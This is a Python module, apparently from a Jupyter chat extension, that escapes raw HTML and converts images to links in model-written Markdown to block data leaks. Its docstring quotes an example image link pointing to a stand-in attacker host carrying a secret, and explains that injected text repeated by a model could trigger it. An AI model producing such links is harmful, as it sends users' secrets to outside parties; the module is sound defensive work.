"""The Markdown of an answer as other front ends show it: no raw HTML, no images.

A ``%chat`` answer's ``text/markdown`` (kernel/live.py, kernel/client.py) is what VS
Code, Colab, nbviewer or a JupyterLab without this extension render, and what the saved
notebook keeps. Their renderers pass raw HTML and load any image, so a model answer (or
injected text it repeats) with ``![x](https://attacker/?q=<secret>)`` or ``<img src=...>``
would send a request nobody asked for. Our own renderer (js/src/ui/markdown.ts) shows
raw HTML as text and turns outside images into links; this does the same for the plain
Markdown: outside code (fenced blocks and inline code spans, kept byte for byte) ``<``
becomes ``&lt;`` and ``![`` becomes ``\\![`` (a link the person may open).
"""

from __future__ import annotations

import re

# A fence opener: up to 3 spaces, then 3+ backticks or tildes.
_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
# An inline code span: a backtick run, the shortest text, the same run again.
_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)")


def _inert_text(text: str) -> str:
    return text.replace("<", "&lt;").replace("![", "\\![")


def _inert_line(line: str) -> str:
    out: list[str] = []
    last = 0
    for span in _CODE_SPAN.finditer(line):
        out.append(_inert_text(line[last : span.start()]))
        out.append(span.group(0))
        last = span.end()
    out.append(_inert_text(line[last:]))
    return "".join(out)


def inert_markdown(text: str) -> str:
    """``text`` with raw HTML shown as text and images as links, code left alone."""
    if "<" not in text and "![" not in text:
        return text
    lines = text.split("\n")
    fence: str | None = None
    for i, line in enumerate(lines):
        opener = _FENCE.match(line)
        if fence is not None:
            # Inside a fence until a line of the same character, at least as long.
            closes = (
                opener is not None
                and opener.group(1)[0] == fence[0]
                and len(opener.group(1)) >= len(fence)
                and not line.strip().strip(fence[0])
            )
            if closes:
                fence = None
            continue
        if opener:
            fence = opener.group(1)
            continue
        lines[i] = _inert_line(line)
    return "\n".join(lines)
